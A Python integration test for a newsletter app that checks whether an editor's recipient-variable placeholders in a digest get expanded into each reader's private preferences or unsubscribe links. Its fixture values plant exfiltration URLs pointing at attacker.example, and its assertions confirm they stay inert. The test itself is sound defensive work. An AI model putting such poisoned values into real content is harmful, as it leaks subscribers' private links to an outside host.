"""No reader's private link in any image source or story link of a sent digest (issue 23, high),
with a real Celery worker and the Mailgun emulator expanding `%recipient.NAME%` the way Mailgun
does: an Editors-group account set the lead story's image to
`https://attacker.example/p.gif?p=%recipient.preferences_url%` (and the neutral `[[...]]` and the
other fields likewise); every reader's email shows the editor's characters and carries the
reader's own links only in the footer and List-Unsubscribe."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from articles.content.models import Article
from bench.esp_emulator import Emulator
from newsletter.delivery import dispatch
from newsletter.editions.models import Digest, DigestItem
from newsletter.subscribers.models import Subscriber
from tests.integration.conftest import wait_for
from tests.integration.helpers import make_digest, make_subscribers

pytestmark = pytest.mark.integration


@pytest.fixture
def emulator() -> Iterator[Emulator]:
    server = Emulator(keep_html=True).start()  # each recipient's expanded HTML, to read its links
    yield server
    server.stop()


def test_a_poisoned_image_and_link_carry_no_reader_link(start_worker, emulator) -> None:
    digest = make_digest(stories=4)
    lead = DigestItem.objects.filter(digest=digest).order_by("position").first().article
    Article.objects.filter(pk=lead.pk).update(
        image_url="https://attacker.example/p.gif?p=%recipient.preferences_url%&q=[[preferences_url]]",
        canonical_url="https://attacker.example/s/%recipient.unsubscribe_url%/",
        title="عاجل %recipient.preferences_url% [[unsubscribe_url]]",
        summary="ملخص {{preferences_url}} -preferences_url-",
    )
    Digest.objects.filter(pk=digest.pk).update(intro="مقدمة %recipient.preferences_url%")
    ids = make_subscribers(30)
    start_worker("w1")
    dispatch.dispatch(digest_id=digest.pk)
    wait_for(
        lambda: Digest.objects.filter(pk=digest.pk, status=Digest.Status.SENT).exists(), timeout=90, what="the send"
    )

    tokens = {email: uuid.hex for email, uuid in Subscriber.objects.filter(id__in=ids).values_list("email", "uuid")}
    records = emulator.state.records
    assert len(records) == 30
    for record in records:
        html, text = record["html"], record["text"]
        assert "attacker.example/p.gif" in html  # the editor's image is there, inert
        own_links = re.findall(r'href="([^"]+/newsletter/(?:preferences|unsubscribe)/[^"]+)"', html)
        assert own_links, "the footer carries the reader's own links"
        for url in re.findall(r'(?:src|href)="([^"]+)"', html):
            if "attacker.example" in url:
                # No substitution happened in the editor's URLs: the placeholders stayed as text.
                assert "/newsletter/" not in url and record["unsubscribe_url"] not in url, url
        for line in text.splitlines():
            if "attacker.example" in line:
                assert "/newsletter/" not in line, line
        assert "%recipient." in html.replace("\u2060", "").replace("&#37;", "%")  # shown as typed
        assert tokens[record["to"]] not in record["subject"]
